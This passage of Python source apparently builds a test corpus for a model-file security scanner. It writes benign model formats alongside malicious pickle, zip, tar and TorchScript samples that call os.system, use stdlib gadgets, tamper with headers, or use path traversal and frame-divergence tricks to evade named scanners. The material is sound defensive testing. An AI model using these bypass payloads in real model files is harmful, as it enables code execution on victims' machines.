    c.add(b + "torchscript_module.pt", torchscript("torchscript_module"), "clean", [],
          "torch.jit.save layout (data.pkl, deflated code/__torch__/model.py calling only torch.* (aten) and ops.prim.*, constants.pkl, version, byteorder): the code is analysed and plain aten/prim ops are facts")

    legacy_state = mini(torch_state_dict(("storage", FLOAT_STORAGE, "0", "cpu", 4, None)), 2)
    c.add(b + "legacy_torch.bin", legacy_torch(legacy_state), "clean", [],
          "legacy (pre-1.6) torch file: 5 pickles (magic LONG1, 1001, sys_info, state dict, ['0']) then raw storage bytes")

    c.add(b + "array.npy", npy("<f4", (4,), TENSOR_BYTES), "clean", [], "float32 .npy v1.0, 4 values")
    c.add(b + "arrays.npz", build_zip([Entry("weights.npy", npy("<f4", (2, 2), TENSOR_BYTES)),
                                       Entry("bias.npy", npy("<i8", (3,), i64(1, 2, 3)))]),
          "clean", [], "np.savez-style stored zip of two .npy members")
    c.add(b + "model.safetensors", st_model(), "clean", [],
          "valid safetensors: I64 + F32 tensors, __metadata__ format=pt, header space-padded to 8 bytes")

    jl = {"coef": JoblibArray("<f8", (4,), f64(0.5, -1.5, 2.0, 0.25), True), "n_iter": 3}
    c.add(b + "model_joblib.joblib", mini(jl, 4), "clean", [],
          "joblib.dump: NumpyArrayWrapper NEWOBJ+BUILD then raw array bytes inside the stream (scanner must skip them as NumpyUnpickler does)")
    jlz = {"coef": JoblibArray("<f8", (4,), f64(0.5, -1.5, 2.0, 0.25), False), "n_iter": 3}
    c.add(b + "model_joblib_zlib.joblib", zlib.compress(mini(jlz, 4), 3), "clean", [],
          "joblib.dump(compress=3): the same joblib stream, zlib-compressed (starts with 'x^')")
    c.add(b + "model_joblib_lz4.joblib", lz4_frame(mini(jlz, 4)), "clean", [],
          "joblib.dump(compress='lz4'): the same joblib stream in an LZ4 frame (magic 04 22 4D 18, stored blocks)")

    # gensim's TfidfModel keeps functools.partial(smartirs_normalize) as an attribute; this is
    # pickle.dumps(model, 2) byte for byte (written with stand-in modules, never gensim).
    normalize = Global("gensim.models.tfidfmodel", "smartirs_normalize")
    tfidf = NewObj(Global("gensim.models.tfidfmodel", "TfidfModel"), (), state={
        "normalize": Reduce(Global("functools", "partial"), (normalize,), state=(normalize, (), {}, None)),
        "num_docs": 9, "smartirs": "nfc"})
    c.add(b + "partial_in_state.pkl", mini(tfidf, 2), "clean", ["pickle-unknown-global"],
          "gensim-shaped model whose attribute is functools.partial(smartirs_normalize), stored, never called: only the unknown gensim globals are reported")

    d = b + "hf_model/"
    c.add(d + "config.json", HF_CONFIG)
    c.add(d + "README.md", HF_README)
    c.add(d + "model.safetensors", st_model())
    c.add(d + "tokenizer.json", HF_TOKENIZER)
    c.add(d + "generation_config.json", HF_GENCFG)
    c.exp(d.rstrip("/"), "clean", [], "Hugging Face model directory: config, model card with YAML front matter, safetensors, tokenizer")

    # A LoRA adapter directory as PEFT saves it, with a model card that names its base model,
    # datasets and evaluation results, pinned requirements and a chat template.
    a = b + "lora_adapter/"
    c.add(a + "adapter_config.json", jdump({
        "base_model_name_or_path": "aibom/tiny-base", "revision": None, "peft_type": "LORA",
        "task_type": "CAUSAL_LM", "r": 8, "lora_alpha": 16, "lora_dropout": 0.05,
        "target_modules": ["q_proj", "v_proj"], "inference_mode": True}))
    c.add(a + "adapter_model.safetensors", safetensors(
        [("base_model.model.q_proj.lora_A.weight", "F32", (1, 2), f32(0.25, -0.5)),
         ("base_model.model.q_proj.lora_B.weight", "F32", (2, 1), f32(1.0, 0.0))]))
    c.add(a + "README.md", b"""---
license: llama2
language:
  - en
  - fr
pipeline_tag: text-generation
library_name: peft
base_model: aibom/tiny-base
base_model_relation: adapter
datasets:
  - aibom/tiny-instructions
  - aibom/tiny-eval
tags:
  - lora
  - aibom-sample
model-index:
  - name: aibom-tiny-lora
    results:
      - task:
          type: text-generation
        dataset:
          name: aibom tiny eval
          type: aibom/tiny-eval
          split: test
        metrics:
          - type: accuracy
            value: 0.5
---

# aibom tiny LoRA adapter

A test adapter for aibom's sample corpus.
""")
    c.add(a + "requirements.txt", b"peft==0.11.1\ntorch>=2.1\n")
    c.add(a + "tokenizer_config.json", jdump({
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"}))
    c.exp(a.rstrip("/"), "clean", [], "PEFT LoRA adapter: adapter_config.json, card with base model, datasets, model-index, pinned requirements, chat template")

    # Hugging Face remote code: auto_map names a class in a Python file of the repository,
    # which from_pretrained(trust_remote_code=True) imports and runs.
    rc = "malicious/remote_code/"
    c.add(rc + "config.json", jdump({
        "architectures": ["AibomRemoteModel"], "model_type": "aibom-remote",
        "auto_map": {"AutoConfig": "configuration_aibom.AibomConfig",
                     "AutoModel": "modeling_aibom.AibomRemoteModel"}}))
    c.add(rc + "configuration_aibom.py", b"class AibomConfig:\n    model_type = 'aibom-remote'\n")
    c.add(rc + "modeling_aibom.py",
          b"print('aibom-sample')  # runs at import time when trust_remote_code=True\n"
          b"class AibomRemoteModel:\n    pass\n")
    c.add(rc + "model.safetensors", st_model())
    c.exp(rc.rstrip("/"), "unsafe", ["remote-code"],
          "config.json auto_map points at modeling_aibom.py: loading needs trust_remote_code and runs it")

    # huggingface_hub cache: blobs named by etag (git blob SHA-1 for regular files, SHA-256 for
    # LFS files), refs/main holds the commit, snapshots/<commit>/ are relative links to blobs.
    repo = b + "hub_cache/models--aibom--tiny/"
    commit = hashlib.sha1(b"aibom-sample-commit").hexdigest()
    cfg_etag = hashlib.sha1(b"blob %d\0" % len(HF_CONFIG) + HF_CONFIG).hexdigest()
    st_etag = hashlib.sha256(st_model()).hexdigest()
    c.add(repo + "blobs/" + cfg_etag, HF_CONFIG)
    c.add(repo + "blobs/" + st_etag, st_model())
    c.add(repo + "refs/main", commit.encode())
    c.link(repo + f"snapshots/{commit}/config.json", "../../blobs/" + cfg_etag)
    c.link(repo + f"snapshots/{commit}/model.safetensors", "../../blobs/" + st_etag)
    c.exp(repo.rstrip("/"), "clean", [],
          "hub cache repo: blobs/<etag>, refs/main, snapshots/<commit>/* relative symlinks into blobs/ (must not be symlink-escape)")
    c.exp(repo + f"snapshots/{commit}", "clean", [],
          "a snapshot directory whose files are all symlinks into ../../blobs (the path users pass to loaders)")


def frame_divergence(pad_to: int | None) -> bytes:
    """Row #21 (CPython gh-154848). FRAME declares 2 bytes: the BINBYTES opcode and the first
    byte of its 4-byte length, so the length straddles the frame end.

    * Linear readers (pickletools.genops, fickling 0.1.12, picklescan, modelscan, and CPython's C
      unpickler on an in-memory bytes object, i.e. pickle.loads) take length 0x00000107 and read
      263 harmless-looking bytes; stack: None, bytes -> POP_MARK -> STOP returns None.
    * CPython's C unpickler (before 3.13.15 / 3.14.7, i.e. every release in use when this was
      written) reading from a *file object* satisfies a read
      that crosses the end of its buffer with a fresh file.read(), dropping the unread frame tail:
      it takes length 1 from the 4 bytes after the frame, reads one byte, then executes the hidden
      GLOBAL os system / REDUCE. torch.load feeds zip records through io.BytesIO (always diverges);
      pickle.load(open(path)) diverges when the frame straddles a BufferedReader block boundary,
      hence the pad that puts BINBYTES at offset 8191 (fits 4 KiB and 8 KiB buffers).
    * The pure-Python unpickler (and patched CPython) raise "pickle exhausted before end of
      frame": a frame-checking scanner must report pickle-frame-overrun."""
    head = P5 + b"N"
    if pad_to is not None:
        # 'V' + k*'a' + '\n' + POP + MARK + FRAME(9) puts 'B' at offset 3 + k + 13.
        k = pad_to - 1 - 16
        head += b"V" + b"a" * k + b"\n0"
    hidden = g0("os", "system") + b"(V" + CMD.encode() + b"\ntR("
    body = hidden.ljust(261, b"N")
    out = head + b"(" + b"\x95" + struct.pack("<Q", 2) + b"B\x07" + b"\x01\x00\x00" + b"\x00" + b"\x00" + body + b"1."
    if pad_to is not None:
        assert out.index(b"B\x07\x01\x00\x00") == pad_to - 1
    return out


GADGETS = {
    # name: (pickle body between PROTO 4 and STOP, note)
    "runpy_run_code": sg("runpy", "_run_code") + su(PY_CODE) + b"}\x86R",
    "bdb_Bdb_run": sg("bdb", "Bdb.run") + sg("bdb", "Bdb") + b")R" + su(PY_CODE) + b"\x86R",
    "cProfile_run": call1("cProfile", "run", PY_CODE),
    "timeit_timeit": call1("timeit", "timeit", PY_CODE),
    "code_InteractiveInterpreter_runcode": sg("code", "InteractiveInterpreter.runcode")
    + sg("code", "InteractiveInterpreter") + b")R" + su(PY_CODE) + b"\x86R",
    "ctypes_CDLL": call1("ctypes", "CDLL", "libaibom-sample.so"),
    "pty_spawn": sg("pty", "spawn") + plist(su("echo"), su("aibom-sample")) + b"\x85R",
    "pydoc_pipepager": sg("pydoc", "pipepager") + su("aibom-sample") + su(CMD) + b"\x86R",
    "uuid_get_command_stdout": sg("uuid", "_get_command_stdout") + su("echo") + su("aibom-sample") + b"\x86R",
    "imaplib_IMAP4_stream": call1("imaplib", "IMAP4_stream", CMD),
    "io_FileIO": sg("io", "FileIO") + su("/tmp/aibom-sample.txt") + su("w") + b"\x86R",
    "logging_FileHandler": call1("logging", "FileHandler", "/tmp/aibom-sample.log"),
    "urllib_request_urlopen": call1("urllib.request", "urlopen", "http://127.0.0.1:9/"),
    # types.FunctionType(types.CodeType(<3.11 fields: RESUME, LOAD_CONST None, RETURN_VALUE>), {})
    "types_CodeType": sg("types", "FunctionType") + sg("types", "CodeType")
    + b"(K\x00K\x00K\x00K\x00K\x01K\x00" + b"C\x06\x97\x00d\x00S\x00" + b"N\x85))"
    + su("<aibom-sample>") + su("<module>") + su("<module>") + b"K\x01C\x00C\x00tR}\x86R",
    "torch_collect_env_run": call1("torch.utils.collect_env", "run", CMD),
    "numpy_testing_runstring": sg("numpy.testing._private.utils", "runstring") + su(PY_CODE) + b"}\x86R",
    "multiprocessing_spawnv_passfds": sg("multiprocessing.util", "spawnv_passfds") + su("/bin/echo")
    + plist(su("echo"), su("aibom-sample")) + b")\x87R",
    "webbrowser_open": call1("webbrowser", "open", "http://127.0.0.1:9/"),
}


def tars(c: Corpus) -> None:
    """Tar archives: a SageMaker bundle, and the layouts attackers use against extractors and scanners."""
    b, m = "benign/", "malicious/"
    c.add(b + "sagemaker/model.tar.gz",
          gzip.compress(build_tar([("config.json", HF_CONFIG), ("model.safetensors", st_model()),
                                   ("code/requirements.txt", b"transformers==4.44.0\n")]), 9, mtime=0),
          "clean", [], "SageMaker-style model.tar.gz (gzip of a pax tar): config.json, model.safetensors, code/")
    c.add(b + "nemo/model.nemo",
          build_tar([("model_config.yaml", b"target: aibom.sample.Model\n"),
                     ("model_weights.ckpt", tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)],
                                                 prefix="model_weights/"))]),
          "clean", [], "NeMo .nemo (a tar) whose last member is a benign torch zip: found again from the end of the file, not a polyglot")
    c.add(m + "tar_os_system.tar",
          build_tar([("config.json", HF_CONFIG), ("model/weights.bin", MAL)]), "unsafe", [DG, DC],
          "tar whose model/weights.bin is a pickle calling os.system")
    c.add(m + "tar_traversal_symlink.tar",
          build_tar([("config.json", HF_CONFIG), ("../../evil.txt", b"aibom-sample\n"),
                     ("model.bin", None, tarfile.SYMTYPE, "/etc/passwd")]),
          "unsafe", ["tar-path-traversal", "tar-link-escape"],
          "tar with a member named ../../evil.txt and a symlink model.bin -> /etc/passwd")
    c.add(m + "legacy_torch_tar.pt", legacy_torch_tar(MAL_P2), "unsafe", [DG, DC],
          "PyTorch's legacy tar checkpoint (sys_info, pickle, tensors, storages) whose pickle member calls os.system")
    c.add(m + "nemo_payload.nemo",
          build_tar([("model_config.yaml", b"target: aibom.sample.Model\n"),
                     ("model_weights.ckpt", tzip([("data.pkl", MAL_P2)], prefix="model_weights/"))]),
          "unsafe", [DG, DC], "NeMo .nemo (a tar) whose model_weights.ckpt is a torch zip calling os.system")


def malicious(c: Corpus) -> None:
    m = "malicious/"
    c.add(m + "reduce_os_system_p4.pkl", MAL, "unsafe", [DG, DC],
          "canonical payload: STACK_GLOBAL os.system, TUPLE1, REDUCE (protocol 4)")
    c.add(m + "proto0_os_system.pkl", MAL_P0, "unsafe", [DG, DC],
          "protocol-0 text form: GLOBAL 'os system', MARK, UNICODE, TUPLE, REDUCE")
    c.add(m + "torch_zip_reduce.pt", tzip([("data.pkl", MAL_P2)]), "unsafe", [DG, DC],
          "torch zip whose archive/data.pkl calls os.system")

    # #1 / #1b: 7z containers (Copy coder, no compression).
    c.add(m + "nullifai_7z.pt", build_7z([("archive/data.pkl", MAL_P2), ("archive/version", b"3\n"),
                                           ("archive/byteorder", b"little")]), "unsafe", [DG, "format-mismatch"],
          "#1 nullifAI: PyTorch archive packed with 7z instead of zip (Copy coder); data.pkl calls os.system")
    c.add(m + "sevenz_member_bin.7z", build_7z([("pytorch_model.bin", MAL)]), "unsafe", [DG],
          "#1b 7z member without a pickle extension (picklescan only extracts .pkl/.pickle/.joblib/.dat/.data)")

    broken = P2 + g0("os", "system") + bu(CMD) + b"\x85R\xff"
    c.add(m + "nullifai_broken_pickle.pkl", broken, "unsafe", [DG, DC, "pickle-malformed"],
          "#2 payload first, then an invalid opcode and no STOP: the REDUCE has already run when loading fails")
    c.add(m + "nullifai_broken_pickle.pt", tzip([("data.pkl", broken)]), "unsafe", [DG, DC, "pickle-malformed"],
          "#2 the broken pickle as archive/data.pkl of a torch zip")
    c.add(m + "pip_main.pkl", P4 + sg("pip", "main") + plist(su("install"), su("aibom-sample-pkg")) + b"\x85R.",
          "unsafe", [DG, DC], "#3 CVE-2025-1716: pip.main(['install', pkg])")
    c.add(m + "zip_member_txt.pt", tzip([("weights.txt", MAL)]), "unsafe", [DG],
          "#4 CVE-2025-1889: pickle in a zip member with a non-pickle extension")
    c.add(m + "zip_member_proto0.pt", tzip([("data.txt", MAL_P0)]), "unsafe", [DG],
          "#4b protocol-0 pickle (no \\x80 magic) in a .txt member")

    bad = tzip([("data.pkl", MAL)])
    c.add(m + "zip_local_name_mismatch.pt",
          _patch_local_name(bad, b"archive/data.pkl", b"archive/datX.pkl"),
          "unsafe", [DG, "zip-header-mismatch"],
          "#5 CVE-2025-1944: local header says archive/datX.pkl, central directory says archive/data.pkl (miniz loads it, zipfile raises)")
    c.add(m + "zip_flag_bit.pt", build_zip([Entry(e.name, e.data, align=64, flags=0x1 if e.name.endswith("data.pkl") else 0)
                                            for e in torch_entries([("data.pkl", MAL)])]),
          "unsafe", [DG, "zip-encrypted-flag"],
          "#6 CVE-2025-1945: general-purpose bit 0 (encrypted) set on data.pkl in local and central headers; data is plain (torch 2.15.0 refuses it: 'unsupported encryption'; other readers may not)")
    c.add(m + "zip_flag_bit_local.pt", build_zip([Entry(e.name, e.data, align=64, local_flags=0x1 if e.name.endswith("data.pkl") else 0)
                                                  for e in torch_entries([("data.pkl", MAL)])]),
          "unsafe", [DG, "zip-encrypted-flag", "zip-header-mismatch"],
          "#6b general-purpose bit 0 (encrypted) on data.pkl in the local header only: torch reads through the central directory, ignores it and runs the payload; scanners that honour the local flag skip the member")
    c.add(m + "zip_bad_crc.pt", build_zip([Entry(e.name, e.data, align=64,
                                                 crc=(zlib.crc32(e.data) ^ 0xFFFFFFFF) if e.name.endswith("data.pkl") else None)
                                           for e in torch_entries([("data.pkl", MAL)])]),
          "unsafe", [DG, "zip-crc-mismatch"],
          "#7 CVE-2025-10156: data.pkl CRC-32 bitwise-inverted in local and central headers (torch ignores CRCs)")
    c.add(m + "pickle_named_bin/pytorch_model.bin", MAL, "unsafe", [DG],
          "#8 CVE-2025-10155: a plain pickle named like a torch checkpoint")
    c.exp(m + "pickle_named_bin", "unsafe", [DG], "#8 directory containing the plain pickle pytorch_model.bin")
    c.add(m + "asyncio_submodule.pkl",
          P4 + sg("asyncio.unix_events", "_UnixSubprocessTransport._start") + b"(}" + su(CMD) + b"\x88NNNK\x00tR.",
          "unsafe", [DG, DC], "#9 CVE-2025-10157: submodule of a denied package, dotted method _UnixSubprocessTransport._start")
    c.add(m + "pkgutil_resolve_name.pkl", P4 + call1("pkgutil", "resolve_name", "os:system") + su(CMD) + b"\x85R.",
          "unsafe", [DG, DC], "#10 GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name('os:system') returns any callable")
    c.add(m + "importlib_getattr_static.pkl",
          P4 + sg("inspect", "getattr_static") + call1("importlib", "import_module", "os") + su("system")
          + b"\x86R" + su(CMD) + b"\x85R.",
          "unsafe", [DG, DC], "#11 importlib.import_module('os') + inspect.getattr_static(m, 'system')")
    c.add(m + "numpy_builtins_build.pkl",
          P4 + sg("numpy", "size") + b"\x94\x94" + sg("numpy", "__builtins__") + b"\x94\x94h\x01}}" + su("shape")
          + b"h\x03s\x86bh\x01h\x01" + su("eval") + b"\x86R" + su(PY_CODE) + b"\x85R.",
          "unsafe", ["pickle-dunder-access", "pickle-build-on-global"],
          "#12 modelscan #330: BUILD sets numpy.size.shape = numpy.__builtins__, size(size, 'eval') returns eval")
    # The published recipe lacks the TUPLE2 before each BUILD (BUILD would then target None);
    # with it, BUILD's slot-state sets numpy.prod.a = 'os' and numpy.prod.b = 'system'.
    c.add(m + "numpy_prod_memo.pkl",
          P5 + g0("numpy", "prod") + b"N(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0" + g0("numpy", "prod.a") + b"p0\n"
          + g0("numpy", "prod.b") + b"p1\n00g0\ng1\n\x93V" + CMD.encode() + b"\n\x85R.",
          "unsafe", ["pickle-build-on-global", DG, DC],
          "#13 modelscan #85: BUILD writes strings onto numpy.prod, GLOBAL 'numpy prod.a' fetches them, STACK_GLOBAL from memo GETs")
    c.add(m + "memo_stack_global.pkl",
          P4 + su("os") + b"\x94" + su("system") + b"\x94" + su("pad") + b"0h\x00h\x01\x93" + su(CMD) + b"\x85R.",
          "unsafe", [DG, DC], "#14 STACK_GLOBAL operands fetched with BINGET after padding")
    c.add(m + "memo_keyerror.pkl", P4 + call1("os", "system", CMD) + b"0" + su("os") + b"\x94h\x07h\x00\x93.",
          "unsafe", [DG, DC, "pickle-malformed"],
          "#15 payload runs, then BINGET of a never-stored memo key: a scanner that crashes on the KeyError loses the finding")
    c.add(m + "memo_keyerror_then_payload.pkl", P4 + su("os") + b"\x94h\x07h\x00\x93." + MAL,
          "unsafe", ["pickle-malformed", DG],
          "#15 variant: a pickle with a missing memo key, then a second, complete payload pickle; the scan must go on past STOP")
    c.add(m + "stack_global_string_opcode.pkl",
          b"S'os'\nS'system'\n\x93S'" + CMD.encode() + b"'\n\x85R.",
          "unsafe", [DG, DC], "#16 GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL operands pushed with protocol-0 STRING")

    evil_magic = P2 + g0("__builtin__", "eval") + bu(hex(TORCH_MAGIC)) + b"\x85R."
    c.add(m + "legacy_magic_bypass.pt", evil_magic + MAL_P2 + mini({}, 2) + mini({}, 2) + mini([], 2),
          "unsafe", [DG, DC],
          "#17 legacy torch file whose magic number is produced by eval(hex string) REDUCE; os.system in the next pickle")
    c.add(m + "legacy_payload_4th.bin", legacy_torch(MAL_P2, keys=(), storages=()), "unsafe", [DG, DC],
          "#17b legacy torch layout, genuine magic, os.system in the 4th (state dict) pickle; modelscan reads only the first")
    # ('module', os.system, '', '') as a persistent id: torch's legacy persistent_load returns
    # its second item as it is, and the pickle calls what came back.
    module_pid = P2 + b"(" + bu("module") + g0("os", "system") + bu("") + bu("") + b"tQ" + bu(CMD) + b"\x85R."
    c.add(m + "legacy_module_persistent_id.bin", legacy_torch(module_pid, keys=(), storages=()), "unsafe", [DG, DC],
          "legacy torch layout whose object pickle calls the result of persistent_load(('module', os.system, '', '')): "
          "torch's _legacy_load (weights_only=False) hands back os.system, so os.system runs")
    c.add(m + "obj_pop.pkl", P4 + b"(" + sg("os", "system") + su(CMD) + b"o0N.", "unsafe", [DG, DC],
          "#18 GHSA-mxhj-88fx-4pcv: OBJ call whose result is discarded by POP")
    c.add(m + "dotted_pathlib_os_system.pkl", P4 + sg("pathlib", "os.system") + su(CMD) + b"\x85R.",
          "unsafe", [DG, DC], "#19 GHSA-5j3x-jp52-966f: STACK_GLOBAL('pathlib', 'os.system') walks pathlib.os")
    c.add(m + "dotted_torch_serialization.pkl", P4 + sg("torch", "serialization.os.system") + su(CMD) + b"\x85R.",
          "unsafe", [DG, DC], "#19 STACK_GLOBAL('torch', 'serialization.os.system')")
    c.add(m + "import_getattr_chain.pkl",
          b"c__builtin__\n__import__\n(Vos\ntRp0\n0c__builtin__\ngetattr\n(g0\nVsystem\ntRp1\n0g1\n(V"
          + CMD.encode() + b"\ntR.",
          "unsafe", [DG, DC], "#20 GHSA-h4rm-mm56-xf63: __import__('os') then getattr(m, 'system') through PUT/POP/GET")
    c.add(m + "partial_called.pkl",
          mini(Reduce(Reduce(Global("functools", "partial"), (Global("os", "system"), CMD)), ()), 2),
          "unsafe", [DG, DC],
          "functools.partial(os.system, cmd) called by a second REDUCE: a partial is judged by what it wraps, and calling it calls that")
    c.add(m + "map_os_system.pkl",
          P4 + sg("builtins", "list") + sg("builtins", "map") + sg("os", "system") + plist(su(CMD))
          + b"\x86R\x85R.",
          "unsafe", [DG, DC], "list(map(os.system, [cmd])): map is judged by the function it is given")
    c.add(m + "frame_divergence.pkl", frame_divergence(8192), "unsafe", ["pickle-frame-overrun"],
          "#21 gh-154848: BINBYTES length straddles a 2-byte FRAME; linear parsers see bytes, CPython's C unpickler on a file runs os.system")
    c.add(m + "frame_divergence_zip.pt", tzip([("data.pkl", frame_divergence(None))]), "unsafe", ["pickle-frame-overrun"],
          "#21 same trick, no pad, as archive/data.pkl: torch.load reads records through io.BytesIO, so it always diverges")
    c.add(m + "nested_pickle_loads.pkl", P4 + sg("pickle", "loads") + b"C" + bytes([len(MAL)]) + MAL + b"\x85R.",
          "unsafe", [DG, DC], "#22 modelscan #267: pickle.loads(b'<MAL>')")
    c.add(m + "nested_torch_load_from_bytes.pkl",
          P4 + sg("torch.storage", "_load_from_bytes") + b"C" + bytes([len(MAL)]) + MAL + b"\x85R.",
          "unsafe", [DG], "#22b torch.storage._load_from_bytes(b'<MAL>'): torch.load of nested bytes; the inner pickle calls os.system")
    benign_zip = tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)], base=len(MAL))
    c.add(m + "pickle_zip_polyglot.pkl", MAL + benign_zip, "unsafe", [DG, "polyglot"],
          "#23 malicious pickle at offset 0 AND a valid benign torch zip found via the EOCD (offsets account for the prefix)")
    c.add(m + "zip_pickle_appended.zip", tzip([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)], trailing=MAL),
          "unsafe", ["zip-trailing-data", DG],
          "#23 zip first (benign torch layout); a malicious pickle appended after the EOCD, outside any entry and not a comment")
    jl = MAL
    for name, blob, note in [
        ("zlib", zlib.compress(jl, 3), "zlib stream ('x')"),
        ("gzip", gzip.compress(jl, 3, mtime=0), "gzip ('\\x1f\\x8b', mtime 0)"),
        ("bz2", bz2.compress(jl, 3), "bzip2 ('BZh')"),
        ("xz", lzma.compress(jl, format=lzma.FORMAT_XZ, preset=3), "xz ('\\xfd7zXZ')"),
        ("lzma", lzma.compress(jl, format=lzma.FORMAT_ALONE, preset=3), "legacy .lzma ('] \\x00')"),
        ("lz4", lz4_frame(jl), "LZ4 frame ('\\x04\\x22\\x4d\\x18', stored blocks)"),
    ]:
        c.add(m + f"joblib_{name}.joblib", blob, "unsafe", [DG], f"#24 compressed joblib: {note} of the os.system pickle")
    c.add(m + "joblib_lz4_skippable.joblib",
          lz4_frame(MAL[:8]) + lz4_skippable(b"\xff" * 64) + lz4_frame(MAL[8:]), "unsafe", [DG],
          "compressed joblib: the os.system pickle split over two LZ4 frames with a skippable frame "
          "(magic 0x184D2A50) between them; liblz4 skips it and reads on, so joblib loads the whole pickle")
    c.add(m + "joblib_lz4_dictionary.joblib", lz4_frame(MAL, dict_id=0x5EED), "unsafe", [DG],
          "compressed joblib: an LZ4 frame whose descriptor names dictionary 0x5EED; lz4.frame never passes "
          "one and liblz4 decodes the frame without it, so the os.system pickle loads")
    c.add(m + "renamed/model.safetensors", MAL, "unsafe", [DG, "format-mismatch"],
          "#25 pickle saved under a .safetensors name")
    c.add(m + "renamed/weights", MAL, "unsafe", [DG], "#25 pickle saved with no extension")
    c.exp(m + "renamed", "unsafe", [DG], "#25 directory walk must sniff bytes, not filter by extension")
    for how, method_no in [("bzip2", 12), ("lzma", 14)]:
        c.add(m + f"npz_{how}_member.npz",
              build_zip([Entry("arr_0.npy", npy("|O", (1,), MAL), method=how)]),
              "unsafe", [DG],
              f"an .npz whose object array is compressed with {how} (zip method {method_no}): "
              "numpy.load reads it through zipfile and unpickles it with allow_pickle=True")
    c.add(m + "object_array.npy", npy("|O", (1,), MAL), "unsafe", [DG],
          "#26 .npy with object dtype '|O': the data section is a pickle (numpy.load(allow_pickle=True))")
    zm = b"(S'" + CMD.encode() + b"'\nios\nsystem\n."
    c.add(m + "zlib_magic_proto0.pkl", zm, "unsafe", [DG, DC],
          "#27 protocol-0 INST pickle whose first bytes '(S' are a valid zlib header (misrouted by modelaudit)")
    for name, body in GADGETS.items():
        c.add(m + f"gadgets/{name}.pkl", P4 + body + STOP, "unsafe", [DG],
              f"#28 stdlib/library gadget missing from some denylists: {name}")
    c.add(m + "sleepy_pickle.pkl",
          g0("__builtin__", "exec") + b"(Vprint('aibom-sample')\ntR0" + mini({"w": [0.1]}, 2),
          "unsafe", [DG, DC], "#29 Sleepy Pickle: exec(...) prepended to a benign dict pickle, the dict is still returned")
    c.add(m + "ext1_copyreg.pkl", P2 + b"\x82\x01" + bu(CMD) + b"\x85R.", "unsafe", ["pickle-extension-code"],
          "#33 EXT1 code 1: callable fetched from the copyreg extension registry, no GLOBAL at all")

    c.add(m + "build_on_function.pkl", P4 + sg("torch._utils", "_rebuild_tensor_v2") + b"}" + su("aibom")
          + su("sample") + b"sb.", "unsafe", ["pickle-build-on-global"],
          "BUILD with a dict state applied to an (allowlisted) function object: it mutates the imported function")
    c.add(m + "newobj_ex_call.pkl", P4 + sg("subprocess", "Popen") + su(CMD) + b"\x85}" + su("shell") + b"\x88s\x92.",
          "unsafe", [DG, DC], "NEWOBJ_EX with subprocess.Popen, args and kwargs (no REDUCE anywhere)")
    c.add(m + "inst_opcode.pkl", b"(V" + CMD.encode() + b"\nios\nsystem\n.", "unsafe", [DG, DC],
          "protocol-0 INST 'os system' with a MARKed argument")
    inner = build_zip([Entry("data.pkl", MAL)])
    c.add(m + "nested_zip.zip", build_zip([Entry("inner.zip", inner)]), "unsafe", [DG],
          "a zip containing a zip containing a malicious data.pkl")
    for name, body, codes, why in [
        ("torchscript_setstate_from_file", b"    _0 = torch.from_file(\"aibom-sample\", False, 8)\n",
         ["torchscript-dangerous-op"],
         "TorchScript __setstate__ (run by torch.jit.load while loading) calls torch.from_file on a file the archive names "
         "(here its result is unused, which torch 2.15.0 optimises away; the finding is what the code asks for, and "
         "check_with_torch.py shows a from_file whose result is used reading the file)"),
        ("torchscript_custom_op", b"    _0 = ops.aibom_sample.echo(\"aibom-sample\")\n", ["torchscript-custom-op"],
         "TorchScript __setstate__ calls ops.aibom_sample.echo: a custom op namespace only a native library the deployment loads can provide"),
        ("torchscript_getattr_op", b"    _0 = getattr(torch, \"from_file\")(\"aibom-sample\", False, 8)\n",
         ["torchscript-code"],
         "TorchScript __setstate__ reaches an operator through getattr(torch, ...): not resolvable from the source, so not analysed (fails closed)"),
    ]:
        c.add(m + name + ".pt", torchscript(name, setstate=body), "unsafe", codes, why)
    c.add(m + "zip_duplicate_name.pt",
          build_zip([Entry("archive/data.pkl", DATA_PKL, align=64), Entry("archive/data.pkl", MAL, align=64),
                     Entry("archive/data/0", TENSOR_BYTES, align=64), Entry("archive/byteorder", b"little", align=64),
                     Entry("archive/version", b"3\n", align=64)]),
          "unsafe", ["zip-duplicate-name", DG],
          "two central-directory entries named archive/data.pkl: first benign, second malicious (zipfile picks the last)")
    c.add(m + "zip_path_traversal.zip", build_zip([Entry("../../evil.pkl", MAL)]), "unsafe",
          ["zip-path-traversal", DG], "member named ../../evil.pkl holding the payload")
    hidden = torch_entries([("data.pkl", DATA_PKL), ("data/0", TENSOR_BYTES)])
    hidden.append(Entry("archive/data.pkl", MAL, align=64, central=False))
    c.add(m + "zip_central_only_benign_local_malicious.pt", build_zip(hidden), "unsafe", ["zip-hidden-entry", DG],
          "central directory lists a benign torch zip; an extra local-header-only archive/data.pkl with the payload sits before it (streaming unzippers take it)")
    d = m + "hf_dir_with_payload/"
    c.add(d + "config.json", HF_CONFIG)
    c.add(d + "generation_config.json", HF_GENCFG)
    c.add(d + "tokenizer.json", HF_TOKENIZER)
    c.add(d + "pytorch_model.bin", tzip([("data.pkl", MAL_P2)], prefix="pytorch_model/"), "unsafe", [DG, DC],
          "torch zip (archive folder named after the file, as torch.save(path) does) whose data.pkl calls os.system")
    c.exp(d.rstrip("/"), "unsafe", [DG], "Hugging Face directory where only pytorch_model.bin is malicious")
    c.add(m + "gzip_pickle.pkl.gz", gzip.compress(MAL, 9, mtime=0), "unsafe", [DG], "gzip of the payload pickle")
    c.add(m + "gzip_payload_after_break.pkl.gz", gzip.compress(P2 + b"N\xff" + MAL, 9, mtime=0), "unsafe",
          ["pickle-malformed", DG, DC],
          "gzip of a stream that breaks at an unknown opcode, then the payload pickle: read without random access, the bytes after the break are still tried")
    joblib_arrays(c)


# joblib arrays read as NumpyUnpickler reads them (samples/check_joblib_arrays.py runs the real
# joblib over these with every class but the array wrappers and numpy.dtype stubbed).
JOBLIB_PAYLOAD = g0("os", "system") + b"(V" + CMD.encode() + b"\ntR0"


def joblib_wrapper(state: bytes, cls: str = "NumpyArrayWrapper", module: str = "joblib.numpy_pickle") -> bytes:
